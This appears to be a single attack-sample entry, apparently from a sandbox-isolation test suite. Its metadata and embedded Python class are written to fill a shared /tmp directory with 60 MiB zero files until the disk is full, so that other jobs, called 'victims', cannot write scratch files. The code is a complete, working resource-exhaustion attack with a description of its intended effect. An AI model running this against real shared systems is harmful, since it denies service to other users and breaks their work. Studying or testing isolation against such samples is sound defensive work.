FAMILY = "F2"
DESCRIPTION = "Fills the worker's shared /tmp to ENOSPC with files created through dir_fd, so later victims cannot write their scratch files."
CLASS = "Filler"
CODE = r'''
import os

class Filler:
    def __init__(self, init_config=None):
        self.written = 0

    def fill(self, files: int):
        """Write up to `files` files of 60 MiB in /tmp."""
        d = os.open("/tmp", os.O_RDONLY | os.O_DIRECTORY)
        chunk = b"\0" * (1 << 20)
        for i in range(files):
            fd = os.open(f".fill{i}", os.O_CREAT | os.O_WRONLY, 0o600, dir_fd=d)
            try:
                for _ in range(60):
                    os.write(fd, chunk)
                    self.written += 1
            except OSError:
                os.close(fd)
                break
            os.close(fd)
        return {"success": True, "data": self.written}
'''
ACTIONS = [("fill", {"files": 8})]
